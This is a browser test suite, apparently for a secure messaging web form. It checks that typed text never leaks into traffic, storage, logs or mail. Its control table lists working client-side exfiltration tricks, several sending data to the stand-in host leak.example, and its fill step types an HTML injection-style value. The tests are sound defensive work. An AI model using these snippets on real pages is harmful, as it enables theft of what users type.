import { type Locale, locales } from '@parley/kernel'
import { listTemplates } from '@parley/protocol'
import { freePort } from '@parley/testkit'
import type { BrowserContext, Download, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { openLog } from '../../src/platform/telemetry/log.ts'
import { run, type Running } from '../../src/run.ts'
import { type Capture, captureTraffic, findWord } from '../capture-traffic.ts'
import { addExample, exampleContent, giveKey } from '../entry-examples.ts'
import { openpgpKeyOf } from '../key-examples.ts'
import { stateCode } from '../nominate.ts'
import { wholeDatabase } from '../whole-database.ts'
import { openWorld, type World } from '../world.ts'

/** What is typed into every field: a name for machines too, so that it could be looked up. */
const marker = 'quokkamarker7731'
const planted = 'wombatplanted4402'

let world: World
let origin: URL
let running: Running
let capture: Capture
let cookie: string
let entry: string
const logged: string[] = []
const log = openLog('trace', { write: (line) => logged.push(line) })

beforeAll(async () => {
  const port = await freePort()
  origin = new URL(`http://localhost:${port}`)
  world = await openWorld({ at: origin, log })
  running = await run(world.directory, {
    host: 'localhost',
    port,
    web: true,
    worker: false,
    clock: world.clock,
    log,
  })
  const [xa, xb] = [stateCode('XA'), stateCode('XB')]
  await world.participate(xa, xb)
  await addExample(world, xa, 'technical', exampleContent('Team of XA'))
  const theirs = await addExample(world, xb, 'technical', {
    ...exampleContent('Team of XB'),
    workingLanguages: ['ar'],
  })
  entry = theirs.id
  await giveKey(world, theirs, (await openpgpKeyOf(['poc@team-of-xb.example'])).publicKey)
  const visitor = await world.visitor({ role: 'poc', kind: 'technical', state: xa })
  cookie = visitor.cookie()
  capture = await captureTraffic(origin)
}, 300_000)
afterAll(async () => {
  await capture?.browser.close()
  await running?.stop()
})

describe('RULE-1: what the test would see', () => {
  test('without the policy every planted leak arrives', async () => {
    capture.withoutPolicy(true)
    const arrived = await plantLeaks()
    capture.withoutPolicy(false)
    expect(arrived).toEqual(Object.keys(leaks))
  }, 120_000)

  test('under the policy only what no policy can hold back arrives: hence this test', async () => {
    expect(await plantLeaks()).toEqual(['an image of this origin', 'going elsewhere', 'a window'])
  }, 120_000)
})

test.each(locales)(
  'RULE-1: in %s, with every field filled and every control used, nothing typed leaves the page',
  async (locale) => {
    const page = await openForm(locale, 'inquiry')
    const from = capture.pagesTraffic().length
    await fillEverything(page)
    await useEverything(page)
    expect(await page.locator('#preview').inputValue()).toContain(marker)
    expect(capture.pagesTraffic().slice(from)).toBe('')
    await page.context().close()
  },
  300_000,
)

test('RULE-1: the same for every kind of message, its language switched while it is written', async () => {
  for (const { kind } of listTemplates()) {
    const page = await openForm('en', kind)
    const from = capture.pagesTraffic().length
    await fillEverything(page)
    for (const each of locales) {
      await page.locator(`footer nav [lang="${each}"]`).click()
      expect(await page.locator('html').getAttribute('lang')).toBe(each)
      expect(await page.locator('#preview').inputValue()).toContain(marker)
    }
    await useEverything(page)
    expect(capture.pagesTraffic().slice(from)).toBe('')
    await page.context().close()
  }
}, 900_000)

test('RULE-1: the same on the page that encrypts: its library and the keys came with it', async () => {
  for (const locale of ['en', 'ar'] as const) {
    const page = await openForm(locale, 'inquiry', 'encrypted')
    const from = capture.pagesTraffic().length
    await fillEverything(page)
    await useEverything(page)
    expect(capture.pagesTraffic().slice(from)).toBe('')
    await page.context().close()
  }
}, 300_000)

test('RULE-1: leaving takes nothing typed along', async () => {
  const page = await openForm('en', 'inquiry')
  await fillEverything(page)
  await page.locator('main a.button').click()
  await page.locator('dialog .button:not(.main)').click()
  await page.waitForURL(`**/en/entries/${entry}`)
  expect(findWord(marker, capture.traffic())).toBe(false)
  await page.context().close()
})

test('RULE-1: what was typed is in no request, no name that was looked up, no table, no line of the log and no mail', async () => {
  // A word that does go through: its finding shows that the same search would find the other.
  const mission = await world.visitor({ role: 'mission', state: stateCode('XA') })
  await mission.post('/en/our-users', {
    name: planted,
    email: `${planted}@xa.example`,
    role: 'technical',
    language: 'en',
  })
  log.info({ planted }, 'planted')
  for (let time = 0; time < 5; time += 1) await world.work('relay')
  const places = {
    traffic: capture.traffic(),
    database: await wholeDatabase(world.directory.database),
    log: logged.join('\n'),
    mail: JSON.stringify(world.sent),
    network: await capture.close(),
  }
  const holding = (word: string) =>
    Object.entries(places).flatMap(([place, text]) => (findWord(word, text) ? [place] : []))
  expect(holding(planted)).toEqual(Object.keys(places))
  expect(holding(marker)).toEqual([])
})

/** Ways by which a script could take a word out of the page. */
const leaks: Readonly<Record<string, (word: string) => void>> = {
  'an image of this origin': (word) => {
    new Image().src = `/no-such-image?${word}`
  },
  'an image elsewhere': (word) => {
    new Image().src = `http://leak.example/image?${word}`
  },
  'a request': (word) => {
    void fetch(`/no-such-page?${word}`).catch(() => undefined)
  },
  'a request with a body': (word) => {
    void fetch('/no-such-page', { method: 'POST', body: word }).catch(() => undefined)
  },
  'a beacon': (word) => {
    navigator.sendBeacon('/no-such-page', word)
  },
  'a form': (word) => {
    const frame = document.createElement('iframe')
    frame.name = 'sink'
    const form = document.createElement('form')
    form.action = '/no-such-page'
    form.target = 'sink'
    const box = document.createElement('input')
    box.name = 'word'
    box.value = word
    form.append(box)
    document.body.append(frame, form)
    form.submit()
  },
  'a socket': (word) => {
    const socket = new WebSocket(`ws://${word}.leak.example/`)
    socket.binaryType = 'blob'
  },
  'a stream of events': (word) => {
    const stream = new EventSource(`/no-such-page?${word}`)
    stream.addEventListener('message', () => stream.close())
  },
  'a style sheet': (word) => {
    const link = document.createElement('link')
    link.rel = 'stylesheet'
    link.href = `http://leak.example/style?${word}`
    document.head.append(link)
  },
  'a script': (word) => {
    const script = document.createElement('script')
    script.src = `http://leak.example/script?${word}`
    document.head.append(script)
  },
  'going elsewhere': (word) => {
    location.assign(`http://leak.example/?${word}`)
  },
  'a window': (word) => {
    open(`http://leak.example/window?${word}`)
  },
}

/** The names of the leaks that arrived, each tried on a page of its own. */
async function plantLeaks(): Promise<readonly string[]> {
  const arrived: string[] = []
  for (const [name, leak] of Object.entries(leaks)) {
    const word = `${planted}${arrived.length}${name.length}`
    const page = await openForm('en', 'inquiry')
    const from = capture.pagesTraffic().length
    await page.evaluate(leak, word).catch(() => undefined)
    await page.waitForTimeout(400)
    if (findWord(word, capture.traffic().slice(from))) arrived.push(name)
    await page.context().close()
  }
  return arrived
}

async function openForm(
  locale: Locale,
  kind: string,
  path: 'inquiry' | 'encrypted' = 'inquiry',
): Promise<Page> {
  const context = await openContext()
  const page = await context.newPage()
  await page.goto(`${origin.origin}/${locale}/entries/${entry}/${path}?kind=${kind}`)
  await page.locator('#preview').waitFor()
  // What the browser asks for by itself, its icon, is asked for now.
  await page.waitForTimeout(100)
  return page
}

async function openContext(): Promise<BrowserContext> {
  const context = await capture.browser.newContext({ acceptDownloads: true })
  const [name = '', value = ''] = cookie.split(/=(.*)/s)
  await context.addCookies([{ name, value, url: origin.origin }])
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: origin.origin })
  return context
}

/** Every box, list and choice of the page. */
async function fillEverything(page: Page): Promise<void> {
  for (const box of await page.locator('main input[type=radio], main input[type=checkbox]').all())
    await box.evaluate((each) => each instanceof HTMLInputElement && each.click())
  // The second nature, so that the name of the exercise is shown too.
  await page.locator('input[value=EXERCISE]').check()
  for (const box of await page
    .locator('main input:not([type]), main input[type=text], main textarea')
    .all()) {
    if (!(await box.isEditable()) || !(await box.isVisible())) continue
    const kind = await box.getAttribute('inputmode')
    const id = await box.getAttribute('id')
    if (kind === 'numeric') await box.fill('12')
    else if (kind === 'email') await box.fill(`${marker}@${marker}.example`)
    else if (id === 'reference') await box.fill('K7QM-4TXD')
    else await box.fill(`${marker} https://${marker}.example/ <img src="//${marker}.example/">`)
  }
  for (const box of await page.locator('main input[type=datetime-local]').all())
    await box.fill('2026-11-27T02:00')
  for (const box of await page.locator('main input[type=password]').all())
    await box.fill(`${marker} ${marker}`)
  for (const box of await page.locator('main select').all())
    await box.selectOption({ index: (await box.locator('option').count()) - 1 })
}

/** Every button, each question answered both ways; a draft is saved and opened again; leaving is thought better of. */
async function useEverything(page: Page): Promise<void> {
  const drafts: Download[] = []
  page.on('download', (file) => {
    if (file.suggestedFilename().endsWith('.json')) drafts.push(file)
  })
  for (const button of await page.locator('main button').all())
    for (const which of ['.main', ':not(.main)']) {
      if (!(await button.isVisible())) continue
      await button.click()
      // It is asked within the click, or not at all.
      const choice = page.locator(`dialog .button${which}`)
      if (await choice.isVisible()) await choice.click()
    }
  await expect.poll(() => drafts.length, { timeout: 30_000 }).toBeGreaterThan(0)
  const file = (await drafts[0]?.path()) ?? ''
  const chooser = page.locator('#draft-file')
  // No person chooses a file twice in half a second: the box lets go of the one before.
  const open = async () => {
    await page.waitForTimeout(500)
    await chooser.setInputFiles(file)
  }
  const status = page.locator('main [role=status]').last()
  const isTold = () => expect.poll(() => status.textContent(), { timeout: 30_000 }).not.toBe('')
  const change = (index: number) => page.locator('#tlp').selectOption({ index })
  await open()
  await isTold()
  await change(0)
  for (const which of ['.main', ':not(.main)']) {
    await open()
    await page.locator(`dialog .button${which}`).click()
  }
  await isTold()
  await change(1)
  await page.locator('main a.button').click()
  await page.locator('dialog .button.main').click()
}
